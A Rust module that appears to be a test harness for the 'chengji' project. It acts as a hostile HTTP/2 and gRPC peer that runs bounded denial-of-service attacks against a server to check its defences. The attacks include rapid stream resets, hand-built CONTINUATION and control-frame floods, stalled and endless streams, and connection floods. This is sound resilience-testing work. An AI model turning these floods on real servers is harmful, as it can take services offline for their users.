//! A peer that means harm: it has a certificate, and does with its connection what it likes. What it
//! does is bounded in number, so that it ends by itself.

use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use chengji_transport::IdentityFiles;
use h2::client::SendRequest;
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, ServerName};
use rustls::{ClientConfig, RootCertStore};
use tokio::net::{TcpSocket, TcpStream};
use tokio_rustls::TlsConnector;
use tokio_rustls::client::TlsStream;

/// What it does.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Attack {
    /// Asks for a stream and never reads of it.
    NeverReads,
    /// Sends pieces of a message that never ends.
    NeverStopsSending,
    /// Opens 10,000 streams and finishes none.
    OpensManyStreams,
    /// Takes 10,000 calls back as soon as they are made.
    ResetsAtOnce,
    /// Sends headers until somebody stops it, up to 1 GiB.
    SendsHugeHeaders,
    /// Opens connection after connection and says nothing.
    OpensConnections,
    /// Sends frames that carry no call, of every kind, until somebody stops it, up to 64 MiB.
    FloodsFrames,
    /// The same without a certificate.
    FloodsFramesUnknown,
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 8] = [
        Self::NeverReads,
        Self::NeverStopsSending,
        Self::OpensManyStreams,
        Self::ResetsAtOnce,
        Self::SendsHugeHeaders,
        Self::OpensConnections,
        Self::FloodsFrames,
        Self::FloodsFramesUnknown,
    ];

    /// Whether it got far enough to do harm, if nothing stopped it; `far` is what it gave back.
    pub fn arrived(self, far: u64) -> bool {
        match self {
            // Streams, or connections.
            Self::NeverReads | Self::NeverStopsSending => far > 0,
            Self::OpensManyStreams | Self::OpensConnections | Self::ResetsAtOnce => far > 20,
            // Bytes.
            Self::SendsHugeHeaders => far > 16 << 10,
            // More frames than may come at once.
            Self::FloodsFrames => far > 4 * 500 * 9,
            Self::FloodsFramesUnknown => far > 4 * 50 * 9,
        }
    }

    /// Does it once, as whom these files are; how far it got.
    pub async fn run(self, address: &str, files: &IdentityFiles) -> u64 {
        match self {
            Self::OpensConnections => return connections(address).await,
            Self::SendsHugeHeaders => return headers(address, files).await,
            Self::FloodsFrames => return frames(address, files, true).await,
            Self::FloodsFramesUnknown => return frames(address, files, false).await,
            _ => {}
        }
        let Some((mut client, _connection)) = connect(address, files).await else {
            return 0;
        };
        let mut held = Vec::new();
        let mut done = 0;
        let most = match self {
            Self::NeverReads => 64,
            Self::NeverStopsSending => 4,
            _ => 10_000,
        };
        while done < most {
            let Ok(Ok(ready)) = tokio::time::timeout(PATIENCE, client.ready()).await else {
                break;
            };
            client = ready;
            let path = match self {
                Self::NeverReads => "/chengji.v1.LogService/Follow",
                _ => "/chengji.v1.DirectoryService/Search",
            };
            let Ok((answer, mut body)) = client.send_request(request(path), false) else {
                break;
            };
            done += 1;
            match self {
                Self::NeverReads => {
                    let _ = body.send_data(Bytes::from_static(&[0; 5]), true);
                }
                Self::NeverStopsSending => {
                    // A message of 3 MiB is announced; zeros follow for as long as they are taken.
                    let _ = body.send_data(Bytes::from_static(&[0, 0, 0x30, 0, 0]), false);
                    body.reserve_capacity(1 << 20);
                    for _ in 0..1_000 {
                        let granted = std::future::poll_fn(|cx| body.poll_capacity(cx));
                        let Ok(Some(Ok(granted))) = tokio::time::timeout(PATIENCE, granted).await
                        else {
                            break;
                        };
                        if body
                            .send_data(Bytes::from(vec![0; granted]), false)
                            .is_err()
                        {
                            break;
                        }
                        body.reserve_capacity(1 << 20);
                    }
                }
                Self::ResetsAtOnce => {
                    body.send_reset(h2::Reason::CANCEL);
                    continue;
                }
                _ => {}
            }
            held.push((answer, body));
        }
        // What it holds open it holds for a while.
        tokio::time::sleep(PATIENCE).await;
        done
    }
}

/// How long it waits for anything.
const PATIENCE: Duration = Duration::from_millis(200);

async fn connections(address: &str) -> u64 {
    let mut open = Vec::new();
    for _ in 0..200 {
        if let Ok(Some(tcp)) = tokio::time::timeout(PATIENCE, tcp(address)).await {
            open.push(tcp);
        }
    }
    tokio::time::sleep(PATIENCE).await;
    open.len() as u64
}

/// Writes the frames by hand: a HEADERS frame without an end, and CONTINUATION after it.
async fn headers(address: &str, files: &IdentityFiles) -> u64 {
    use tokio::io::AsyncWriteExt;

    let Some(mut tls) = handshake(address, files).await else {
        return 0;
    };
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    if tls.write_all(preface).await.is_err() {
        return 0;
    }
    // A literal field without indexing, name `a`, value of 16 KiB less what stands before it.
    let mut field = vec![0x00, 0x01, b'a', 0x7f, 0x80 | 0x61, 0x7e];
    field.resize(6 + 0x3f00 + 0x7f + 0x61, b'x');
    field.truncate(16_000);
    let mut sent = 0_u64;
    let mut kind = 0x01;
    while sent < 1 << 30 {
        let length = u32::try_from(field.len()).unwrap_or_default().to_be_bytes();
        let head = [length[1], length[2], length[3], kind, 0, 0, 0, 0, 1];
        let frame = [&head[..], &field].concat();
        match tokio::time::timeout(PATIENCE, tls.write_all(&frame)).await {
            Ok(Ok(())) => sent += frame.len() as u64,
            _ => break,
        }
        kind = 0x09;
    }
    sent
}

/// Writes frames without a call by hand, each kind in turn: as many bytes as were taken.
async fn frames(address: &str, files: &IdentityFiles, is_known: bool) -> u64 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let Some(tls) = handshake_as(address, files, is_known).await else {
        return 0;
    };
    let (mut from, mut to) = tokio::io::split(tls);
    // What comes back is read, so that nobody waits for it.
    let reading = tokio::spawn(async move {
        let mut sink = vec![0; 16 << 10];
        while from.read(&mut sink).await.is_ok_and(|read| read > 0) {}
    });
    let preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
    let frame = |kind: u8, content: &[u8]| {
        let head = [0, 0, content.len() as u8, kind, 0, 0, 0, 0, 0];
        [&head[..], content].concat()
    };
    let some = [
        frame(0x06, &[0; 8]),
        frame(0x04, &[]),
        frame(0x08, &[0, 0, 0, 1]),
    ];
    let some = some.concat().repeat(100);
    let mut sent = 0;
    if to.write_all(preface).await.is_ok() {
        while sent < 64 << 20 {
            match tokio::time::timeout(PATIENCE, to.write_all(&some)).await {
                Ok(Ok(())) => sent += some.len() as u64,
                _ => break,
            }
        }
    }
    reading.abort();
    sent
}

/// A connection from an address of its own, as another machine would have.
async fn tcp(address: &str) -> Option<TcpStream> {
    let socket = TcpSocket::new_v4().ok()?;
    socket.bind(([127, 200, 200, 200], 0).into()).ok()?;
    socket.connect(address.parse().ok()?).await.ok()
}

fn request(path: &str) -> http::Request<()> {
    http::Request::post(format!("http://node{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .body(())
        .unwrap()
}

/// The connection goes when this is dropped.
struct Driven(tokio::task::JoinHandle<()>);

impl Drop for Driven {
    fn drop(&mut self) {
        self.0.abort();
    }
}

async fn connect(address: &str, files: &IdentityFiles) -> Option<(SendRequest<Bytes>, Driven)> {
    let tls = handshake(address, files).await?;
    let (client, connection) = h2::client::handshake(tls).await.ok()?;
    let driven = Driven(tokio::spawn(async move {
        let _ = connection.await;
    }));
    Some((client, driven))
}

async fn handshake(address: &str, files: &IdentityFiles) -> Option<TlsStream<TcpStream>> {
    handshake_as(address, files, true).await
}

async fn handshake_as(
    address: &str,
    files: &IdentityFiles,
    is_known: bool,
) -> Option<TlsStream<TcpStream>> {
    let certificates = |path: &Path| -> Vec<CertificateDer<'static>> {
        let found = CertificateDer::pem_file_iter(path).unwrap();
        found.collect::<Result<_, _>>().unwrap()
    };
    let mut roots = RootCertStore::empty();
    for certificate in certificates(&files.ca) {
        roots.add(certificate).unwrap();
    }
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider)
        .with_protocol_versions(&[&rustls::version::TLS13])
        .unwrap()
        .with_root_certificates(roots);
    let mut config = match is_known {
        true => config
            .with_client_auth_cert(
                certificates(&files.identity),
                PrivateKeyDer::from_pem_file(&files.identity).unwrap(),
            )
            .unwrap(),
        false => config.with_no_client_auth(),
    };
    config.alpn_protocols = vec![b"h2".to_vec()];
    let tcp = tcp(address).await?;
    // Every certificate of a server has this name, too.
    let name = ServerName::try_from("localhost").unwrap();
    TlsConnector::from(Arc::new(config))
        .connect(name, tcp)
        .await
        .ok()
}
